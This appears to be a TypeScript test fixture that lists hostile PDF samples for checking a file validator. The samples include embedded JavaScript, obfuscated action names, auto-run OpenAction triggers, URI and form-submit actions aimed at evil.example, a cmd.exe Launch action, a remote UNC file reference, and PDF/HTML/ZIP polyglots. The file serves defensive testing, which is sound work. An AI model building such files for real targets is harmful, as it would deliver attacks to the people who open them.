import { packedObjects, pdf } from './pdf-bytes.js';
import { file, type TriedFile } from './tried-file.js';
import { zip } from './zip-bytes.js';

const runs = '<< /S /JavaScript /JS (app.alert(1)) >>';
const archive = zip([{ name: 'A.class', content: Buffer.from('cafebabe', 'hex') }]);
const page = '<html><script>alert(1)</script></html>';

export const hostilePdfs: readonly TriedFile[] = [
  file('a PDF with a script', 'a.pdf', pdf([runs])),
  file(
    'a PDF whose script’s name is written in numbers',
    'a.pdf',
    pdf(['<< /S /J#61v#61Script /J#53 (app.alert(1)) >>']),
  ),
  file('a PDF with a script among packed objects', 'a.pdf', pdf([packedObjects(['<< /A 1 >>', runs])])),
  file('a PDF with a script packed twice', 'a.pdf', pdf([packedObjects([runs], 'hexAndFlate')])),
  file('a PDF that runs on opening', 'a.pdf', pdf([runs], { catalogue: '/OpenAction 4 0 R ' })),
  file(
    'a PDF that opens an address on opening',
    'a.pdf',
    pdf(['<< /S /URI /URI (http://evil.example) >>'], { catalogue: '/OpenAction 4 0 R ' }),
  ),
  file(
    'a PDF that opens an address at once',
    'a.pdf',
    pdf([], { catalogue: '/OpenAction << /S /URI /URI (http://evil.example) >> ' }),
  ),
  file(
    'a PDF that opens an address by a packed object',
    'a.pdf',
    pdf([packedObjects(['<< /S /URI /URI (http://evil.example) >>'])], { catalogue: '/OpenAction 20 0 R ' }),
  ),
  file('a PDF that starts a program', 'a.pdf', pdf(['<< /S /Launch /F (cmd.exe) >>'])),
  file('a PDF that holds a file', 'a.pdf', pdf(['<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream'])),
  file('a PDF with an attachment', 'a.pdf', pdf(['<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>'])),
  file('a PDF that acts when a page is seen', 'a.pdf', pdf(['<< /AA << /O 5 0 R >> >>'])),
  file('a PDF that sends a form', 'a.pdf', pdf(['<< /S /SubmitForm /F (http://evil.example) >>'])),
  file(
    'a PDF that goes to a file of the network',
    'a.pdf',
    pdf(['<< /S /GoToR /F (\\\\\\\\evil\\\\a.pdf) /D [0 /Fit] >>']),
  ),
  file('a PDF with a form of another language', 'a.pdf', pdf(['<< /XFA 5 0 R >>'])),
  file('a PDF with a film that runs', 'a.pdf', pdf(['<< /Subtype /RichMedia >>'])),
  file('a PDF that is encrypted', 'a.pdf', pdf([], { trailer: '/Encrypt 4 0 R ' })),
  file(
    'a PDF that is a page as well',
    'a.pdf',
    Buffer.concat([Buffer.from(`%PDF-1.4\n%${page}\n`), pdf().subarray(9)]),
  ),
  file('a PDF after a page', 'a.pdf', Buffer.concat([Buffer.from(page), pdf()])),
  file('a PDF before a page', 'a.pdf', pdf([], { after: page })),
  file('a PDF that is an archive as well', 'a.pdf', Buffer.concat([pdf(), archive])),
  file(
    'a PDF within which an archive ends',
    'a.pdf',
    Buffer.concat([pdf().subarray(0, -7), zip([{ name: 'a.jar', content: 'a' }], { comment: '%%EOF' })]),
  ),
  file('a PDF that is cut', 'a.pdf', pdf().subarray(0, 120)),
  file('a PDF of one line', 'a.pdf', '%PDF-1.7\n'),
];
